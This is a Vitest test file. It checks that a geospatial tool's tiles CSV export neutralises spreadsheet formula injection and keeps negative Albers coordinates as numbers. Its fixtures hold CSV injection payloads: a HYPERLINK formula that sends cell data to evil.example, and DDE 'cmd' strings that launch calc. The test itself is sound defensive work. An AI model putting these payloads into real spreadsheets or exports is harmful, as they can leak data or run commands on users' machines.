import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readCsv } from '../../src/lib/csv/csv.ts';
import { tilesCsv } from '../../src/lib/server/campaigns/export.ts';
import { importCampaign } from '../../src/lib/server/campaigns/import.service.ts';
import { freshDb } from '../helpers/db.ts';

let ctx: ReturnType<typeof freshDb>;
beforeEach(() => {
	ctx = freshDb();
});
afterEach(() => ctx.cleanup());

/** What spreadsheets take as the start of a formula (OWASP CSV injection). */
const FORMULA = /^(\s*[=+\-@]|[\t\r])/;

describe('tiles CSV export (recette tiles --format csv)', () => {
	it('makes class codes that look like formulas text, and keeps negative coordinates numbers', async () => {
		// A delivery whose class codes are spreadsheet payloads, in a CRS with negative eastings
		// (NAD83 / Conus Albers, west of its central meridian): one 1 km tile per code.
		const codes = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', 'CS2.2.1'];
		const square = (i: number) => {
			const x = -2_001_000 + i * 1000, y = 1_900_000;
			return [[[x, y], [x + 1000, y], [x + 1000, y + 1000], [x, y + 1000], [x, y]]];
		};
		const file = join(ctx.dir, 'albers.geojson');
		writeFileSync(
			file,
			JSON.stringify({
				type: 'FeatureCollection',
				crs: { type: 'name', properties: { name: 'urn:ogc:def:crs:EPSG::5070' } },
				features: codes.map((code, i) => ({ type: 'Feature', properties: { code }, geometry: { type: 'Polygon', coordinates: square(i) } }))
			})
		);
		const id = await importCampaign(ctx.db, { name: 'Albers', landcover: file, classField: 'code', crs: 'EPSG:5070' });

		const text = tilesCsv(ctx.db, id, true);
		const [header, ...rows] = readCsv(text).map((r) => r.cells);
		expect(header.slice(0, 10)).toEqual(['id', 'name', 'feature_count', 'status', 'in_sample', 'dominant_class', 'xmin', 'ymin', 'xmax', 'ymax']);
		const col = (name: string) => header.indexOf(name);
		const byX = new Map(rows.map((r) => [Number(r[col('xmin')]), r]));
		codes.forEach((code, i) => {
			const row = byX.get(-2_001_000 + i * 1000)!;
			// Text: what the delivery said, made text for spreadsheets when it would be a formula.
			expect(row[col('dominant_class')]).toBe(FORMULA.test(code) ? `'${code}` : code);
			// Numbers: written as numbers, minus sign and all.
			expect(row[col('xmin')]).toBe(String(-2_001_000 + i * 1000));
			expect(row[col('ymin')]).toBe('1900000');
			expect(Number(row[col(`area_${code}`)])).toBeCloseTo(1_000_000, 0);
		});
		// No cell at all that a spreadsheet would evaluate, except plain numbers.
		for (const cell of [header, ...rows].flat()) {
			if (FORMULA.test(cell)) expect(cell, 'a cell starting like a formula').toMatch(/^-\d+(\.\d+)?$/);
		}
		// The format stays what it was: comma-separated, LF, no byte-order mark.
		expect(text.startsWith('id,name,feature_count,status,in_sample,dominant_class,xmin,ymin,xmax,ymax,')).toBe(true);
		expect(text).not.toContain('\r');
	});
});
